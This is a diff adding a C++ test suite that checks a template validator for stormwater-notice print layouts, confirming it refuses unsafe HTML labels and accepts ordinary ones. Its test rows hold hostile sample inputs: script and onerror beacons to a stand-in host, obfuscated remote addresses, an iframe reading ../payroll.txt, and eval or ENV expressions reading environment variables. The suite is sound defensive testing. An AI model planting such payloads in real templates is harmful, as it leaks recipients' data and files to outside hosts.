@@ -25,6 +25,7 @@
  ***************************************************************************/
 #include "swsafetycase.h"
 #include "swtestdata.h"
+#include "notices/swtemplatecheck.h"
 
 #include "qgslayoutframe.h"
 #include "qgsapplication.h"
@@ -36,6 +37,8 @@
 
 #include <QDomDocument>
 #include <QFile>
+#include <QFileInfo>
+#include <QTemporaryDir>
 #include <QImage>
 
 #include <functional>
@@ -192,4 +195,72 @@ INSTANTIATE_TEST_SUITE_P(
       withVacantParcelsAnd( dir, [dir]( QgsPrintLayout &layout )
                             { addLabel( layout, QStringLiteral( "logo" ), QStringLiteral( "<img src=\"logo.png\" width=\"60\"><img src=\"file://%1/logo.png\" width=\"60\"> <a href=\"https://www.cityofsignalhill.org\">cityofsignalhill.org</a>" ).arg( dir ), true ); } ); } } ),
   []( const ::testing::TestParamInfo<SafetyCase> &info )
+  { return std::string( info.param.name ); } );
+
+/**
+ * The reading itself, on a small layout written here: each row one way a
+ * template could load or run something, or words a letter rightly holds.
+ * {DIR} is the template's folder.
+ */
+struct TemplateRow
+{
+  const char *name;
+  //! The layout's items, as a .qpt holds them.
+  const char *items;
+  //! The exact refusal, or nullptr when the template is accepted.
+  const char *refusal;
+  //! Files beside the template: name, then content.
+  std::vector<std::pair<const char *, const char *>> files = {};
+};
+
+void PrintTo( const TemplateRow &row, std::ostream *os )
+{
+  *os << row.name;
+}
+
+class TemplateCheck : public ::testing::TestWithParam<TemplateRow>
+{
+};
+
+TEST_P( TemplateCheck, RefusesByItemOrAccepts )
+{
+  const TemplateRow &row = GetParam();
+  QTemporaryDir folder;
+  const QString dir = QFileInfo( folder.path() ).canonicalFilePath();
+  for ( const auto &[name, content] : row.files )
+  {
+    QFile file( dir + '/' + QString::fromUtf8( name ) );
+    ASSERT_TRUE( file.open( QIODevice::WriteOnly ) );
+    file.write( content );
+  }
+  QDomDocument document;
+  ASSERT_TRUE( document.setContent( QStringLiteral( "<Layout name=\"letter\">%1</Layout>" ).arg( QString::fromUtf8( row.items ).replace( QLatin1String( "{DIR}" ), dir ) ) ) ) << row.items;
+  const QString expected = row.refusal ? QString::fromUtf8( row.refusal ).replace( QLatin1String( "{DIR}" ), dir ) : QString();
+  EXPECT_EQ( SwTemplateCheck::whyRefused( document, dir + QStringLiteral( "/letter.qpt" ) ), expected );
+}
+
+#define SW_HTML_LABEL( text ) "<LayoutItem type=\"65641\" id=\"logo\" htmlState=\"1\" labelText=\"" text "\"/>"
+
+INSTANTIATE_TEST_SUITE_P(
+  Rows, TemplateCheck,
+  ::testing::Values(
+    TemplateRow{ "a_script", SW_HTML_LABEL( "&lt;script&gt;new Image().src='ht'+'tps://x.example/'&lt;/script&gt;" ), "TEMPLATE: the label 'logo' runs a script (<script>); a template may not run scripts" },
+    TemplateRow{ "an_event_handler", SW_HTML_LABEL( "&lt;img src=&quot;logo.png&quot; onerror=&quot;fetch('/x')&quot;&gt;" ), "TEMPLATE: the label 'logo' runs a script (onerror=\"fetch('/x')\"); a template may not run scripts" },
+    TemplateRow{ "a_style_url", SW_HTML_LABEL( "&lt;div style=&quot;background: url('https://x.example/b.png')&quot;&gt;&lt;/div&gt;" ), "TEMPLATE: the label 'logo' loads https://x.example/b.png; a template may load only files in its own folder ({DIR})" },
+    TemplateRow{ "an_imported_style_sheet", SW_HTML_LABEL( "&lt;style&gt;@import &quot;http://x.example/a.css&quot;;&lt;/style&gt;" ), "TEMPLATE: the label 'logo' loads http://x.example/a.css; a template may load only files in its own folder ({DIR})" },
+    TemplateRow{ "an_address_in_character_references", SW_HTML_LABEL( "&lt;img src=&quot;&amp;#104;ttps&amp;colon;//x.example/p.png&quot;&gt;" ), "TEMPLATE: the label 'logo' loads https://x.example/p.png; a template may load only files in its own folder ({DIR})" },
+    TemplateRow{ "a_css_escape", SW_HTML_LABEL( "&lt;p style=&quot;background:url(\\68 ttps://x.example/e.png)&quot;&gt;" ), "TEMPLATE: the label 'logo' loads https://x.example/e.png; a template may load only files in its own folder ({DIR})" },
+    TemplateRow{ "a_refresh", SW_HTML_LABEL( "&lt;meta http-equiv=&quot;refresh&quot; content=&quot;0; url=https://x.example/&quot;&gt;" ), "TEMPLATE: the label 'logo' loads https://x.example/; a template may load only files in its own folder ({DIR})" },
+    TemplateRow{ "a_file_above_the_folder", SW_HTML_LABEL( "&lt;iframe src=&quot;../payroll.txt&quot;&gt;&lt;/iframe&gt;" ), "TEMPLATE: the label 'logo' loads ../payroll.txt; a template may load only files in its own folder ({DIR})" },
+    TemplateRow{ "an_address_built_in_an_expression", SW_HTML_LABEL( "&lt;img src=&quot;[% 'https://x.example/' || &quot;owner&quot; %]&quot;&gt;" ), "TEMPLATE: the label 'logo' builds HTML or an address in an expression ('https://x.example/' || \"owner\"); a template's HTML must be written out, where it can be checked" },
+    TemplateRow{ "an_address_computed_from_a_field", SW_HTML_LABEL( "&lt;img src=&quot;[% &quot;notice_id&quot; %].png&quot;&gt;" ), "TEMPLATE: the label 'logo' loads an address computed while letters are drawn ([% \"notice_id\" %].png); a template may load only files in its own folder ({DIR})" },
+    TemplateRow{ "a_page_beside_that_loads_a_remote_image", SW_HTML_LABEL( "&lt;iframe src=&quot;footer.html&quot;&gt;&lt;/iframe&gt;" ), "TEMPLATE: the label 'logo' loads https://x.example/t.gif; a template may load only files in its own folder ({DIR})", { { "footer.html", "<p>Public Works</p><img src=\"https://x.example/t.gif\">" } } },
+    TemplateRow{ "eval_in_a_plain_label", "<LayoutItem type=\"65641\" id=\"\" htmlState=\"0\" labelText=\"Dear [% eval('en' || 'v(''HOME'')') %]\"/>", "TEMPLATE: the label 'Dear [% eval('en' || 'v('…' evaluates text as an expression (eval('en' || 'v(''HOME'')')), which could read the environment; a template may not read environment variables" },
+    TemplateRow{ "env_in_the_atlas_page_names", "<Atlas enabled=\"0\" pageNameExpression=\"ENV( 'USER' )\"/>", "TEMPLATE: the atlas settings reads the environment (env('USER')); a template may not read environment variables" },
+    TemplateRow{ "a_picture_from_a_field", "<LayoutItem type=\"65640\" id=\"signature\"><LayoutObject><dataDefinedProperties><Option type=\"Map\"><Option name=\"properties\" type=\"Map\"><Option name=\"dataDefinedSource\" type=\"Map\"><Option name=\"active\" type=\"bool\" value=\"true\"/><Option name=\"field\" type=\"QString\" value=\"signer_image\"/><Option name=\"type\" type=\"int\" value=\"2\"/></Option></Option></Option></dataDefinedProperties></LayoutObject></LayoutItem>", "TEMPLATE: the picture 'signature' loads an address computed while letters are drawn (signer_image); a template may load only files in its own folder ({DIR})" },
+    TemplateRow{ "a_remote_picture", "<LayoutItem type=\"65640\" id=\"\" file=\"https://x.example/seal.svg\"/>", "TEMPLATE: the picture with no id loads https://x.example/seal.svg; a template may load only files in its own folder ({DIR})" },
+    // What letters rightly hold: the city's web address in words and in a link, pictures written in the page, files beside the template.
+    TemplateRow{ "a_web_address_in_words", "<LayoutItem type=\"65641\" id=\"contact\" htmlState=\"0\" labelText=\"Guidance: https://www.cityofsignalhill.org/stormwater [% &quot;contact_block&quot; %]\"/>", nullptr },
+    TemplateRow{ "a_link_data_and_files_beside", SW_HTML_LABEL( "&lt;a href=&quot;https://www.cityofsignalhill.org&quot;&gt;site&lt;/a&gt; &lt;img src=&quot;data:image/png;base64,iVBORw0KGgo=&quot;&gt; &lt;img src=&quot;./seal.png&quot;&gt; &lt;img src=&quot;file://{DIR}/seal.png&quot;&gt; &lt;iframe src=&quot;footer.html&quot;&gt;&lt;/iframe&gt; [% &quot;owner&quot; %]" ), nullptr, { { "footer.html", "<p>Public Works</p><img src=\"seal.png\">" } } } ),
+  []( const ::testing::TestParamInfo<TemplateRow> &info )
   { return std::string( info.param.name ); } );
